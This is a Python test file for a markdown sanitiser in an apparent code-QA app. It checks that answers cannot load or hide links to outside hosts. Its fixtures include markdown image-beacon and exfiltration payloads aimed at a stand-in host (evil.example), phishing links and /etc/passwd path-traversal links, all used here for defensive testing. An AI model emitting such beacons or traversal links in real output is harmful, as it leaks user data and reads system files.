"""``codeqa.answer.rendering.render``: markdown shown in the app can never load or hide a link to another host,
repository text embeds as text, and ordinary answers are left exactly as they were
(checked with a CommonMark parser)."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from codeqa.answer.rendering.render import code_fence, code_span, escape_markdown, remote_references, safe_markdown

PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
HOSTILE = [
    "Look ![x](http://evil.example/beacon?user=me) here",
    '![a [b] c](http://evil.example/x.png "title")',
    "[![img](http://evil.example/i.png)](http://evil.example/link)",
    "[ref]: http://evil.example/ref.png\n\n![ref] and ![alt][ref] and [ref]",
    '<img src="http://evil.example/z"> and <a href="http://evil.example">x</a>',
    "| a | b |\n|---|---|\n| ![i](http://evil.example/x) | y |",
    "![x](<http://evil.example/a b.png>)",
    "![x](http:\\\\evil.example\\p.png)",
    "# Title ![h](http://evil.example/h.png)",
    "- ![x](//evil.example/p.png)\n  - [phish](https://evil.example/login)",
    "> quoted ![q](http://evil.example/q.png)",
    "Setext ![s](http://evil.example/s.png)\n===",
    "[text](http://evil.example/a) [local](http://127.0.0.1:8501/x) [rel](shop/auth.py)",
    "![data](data:image/png;base64,iVBORw0KGgo=)",
    "<http://evil.example/autolink>",
]
ORDINARY = [
    "The login is checked in `shop/auth.py:8-20` [1].\n\n```rust\nlet v = vec![1, 2];\n```",
    "1. **`track_user`** (function) — [`a.py:1-2`](https://github.com/o/r/blob/abc/a.py#L1-L2)\n   Tracks users.",
    "| file | why |\n|---|---|\n| `a.py` | config <br> loader |",
    "See [the docs](docs/setup.md) or [this line](#setup), and http://127.0.0.1:8501/Chat.",
    "Inline code `![x](y)` and a fence:\n\n~~~md\n![diagram](http://example.com/d.png)\n~~~",
]


def outside(markdown: str) -> list[str]:
    return remote_references(markdown, ["github.com"])


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_loads_and_hides_nothing(markdown: str) -> None:
    assert outside(markdown), "the case really is hostile"
    safe = safe_markdown(markdown, ["github.com"])
    assert outside(safe) == []
    if "![" in markdown and "data:" not in markdown:
        assert "image:" in safe  # the reader is told an image was there, and from where
    if "evil.example" in markdown:
        assert "evil.example" in safe  # the host stays visible


@pytest.mark.parametrize("markdown", ORDINARY)
def test_ordinary_answers_are_unchanged(markdown: str) -> None:
    assert safe_markdown(markdown, ["github.com"]) == markdown


def test_links_say_where_they_go() -> None:
    assert safe_markdown("[the dashboard](http://evil.example/phish)") == "the dashboard (evil.example)"
    assert safe_markdown("![](http://evil.example/exfil?d=Y29kZQ==)") == "\\[image: no description — evil.example\\]"


def _inline_children(markdown: str) -> list:
    tokens = PARSER.parse(markdown)
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], markdown
    return tokens[1].children


printable = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=60)


@settings(max_examples=300, deadline=None)
@given(printable.filter(lambda s: s.strip()))
@example("&LT;")  # an entity reference read back as `<` before `&` was escaped (found by hypothesis)
def test_escaped_text_reads_back_as_the_same_text(text: str) -> None:
    children = _inline_children(escape_markdown(text))
    assert [child.type for child in children] == ["text"] * len(children)
    assert "".join(child.content for child in children) == " ".join(text.split())


@settings(max_examples=300, deadline=None)
@given(printable.filter(lambda s: s.strip()))
def test_code_span_holds_any_text(text: str) -> None:
    children = _inline_children(code_span(text))
    assert [child.type for child in children] == ["code_inline"]
    assert children[0].content.strip() == " ".join(text.split()).strip()


PIECES = ["![", "[", "]", "(", ")", "<", ">", "`", "\n", " ", "http://e.example/x", "x", "]: ", "\\", "!", "img src=",
          "  - ", "> ", "|", "\n\n", '"t"']  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_no_arrangement_of_markdown_loads_anything(parts: list[str]) -> None:
    markdown = "".join(parts)
    assert outside(safe_markdown(markdown)) == []


def test_code_fence_is_longer_than_any_run_inside() -> None:
    assert code_fence("x") == "```" and code_fence("a ```` b") == "`````"


# -- answers in the app: citations link to the code view, and only such relative links pass -----------------------
CODE_LINK = "[`shop/auth.py:8-20`](Code?index=shop&path=shop/auth.py&lines=8-20)"


@pytest.mark.parametrize(
    "markdown",
    [
        f"The login is checked in {CODE_LINK} [\\[1\\]](Code?index=shop&path=shop/auth.py&lines=8-20).",
        "[`a b/c (1).py:3`](Code?index=my-repo.v2&path=a%20b/c%20%281%29.py&lines=3)",
        "[x](./Code?index=shop&path=shop/auth.py&lines=1-2) and [here](#setup)",
    ],
)
def test_code_view_links_are_kept_in_answers(markdown: str) -> None:
    assert safe_markdown(markdown, ["github.com"], code_links_only=True) == markdown


@pytest.mark.parametrize(
    "link",
    [
        "docs/setup.md",
        "/Code?index=shop&path=a.py&lines=1",  # another page path
        "Code?index=shop&path=../../etc/passwd&lines=1",
        "Code?index=shop&path=/etc/passwd&lines=1",
        "Code?index=../shop&path=a.py&lines=1",
        "Code?index=shop&path=a.py&lines=1-2&next=http://evil.example",
        "Code?index=shop&path=a.py&lines=x",
        "Code?index=shop&path=a.py",
        "Code?index=shop&path=a.py&lines=1#frag",
        "//evil.example/Code?index=shop&path=a.py&lines=1",
        "Co\nde?index=shop&path=a.py&lines=1",
        "Admin?index=shop&path=a.py&lines=1",
    ],
)
def test_other_relative_links_are_text_in_answers(link: str) -> None:
    markdown = f"Look [here]({link}) now."
    safe = safe_markdown(markdown, ["github.com"], code_links_only=True)
    tokens = [t for block in PARSER.parse(safe) for t in (block.children or [])]
    assert not any(t.type == "link_open" for t in tokens), safe
    assert "here" in safe


def test_link_citations_links_source_citations_outside_code_only() -> None:
    from codeqa.answer.rendering.links import link_citations
    from codeqa.records import Chunk, Hit

    sources = [Hit(Chunk("shop/auth.py", "python", 8, 20, "x", "login", "function", "core"), 1.0)]
    text = "In `shop/auth.py:8-20` [1], see auth.py:9 and `other.py:1-2` [7].\n\n```python\n9  shop/auth.py:9 [1]\n```"
    linked = link_citations(text, "shop", sources)
    assert linked.startswith(f"In {CODE_LINK} [\\[1\\]](Code?index=shop&path=shop/auth.py&lines=8-20)")
    assert "[auth.py:9](Code?index=shop&path=shop/auth.py&lines=9)" in linked
    assert "`other.py:1-2` [7]" in linked  # not a source: no link
    assert linked.endswith("```python\n9  shop/auth.py:9 [1]\n```")  # code is untouched
    assert safe_markdown(linked, code_links_only=True) == linked
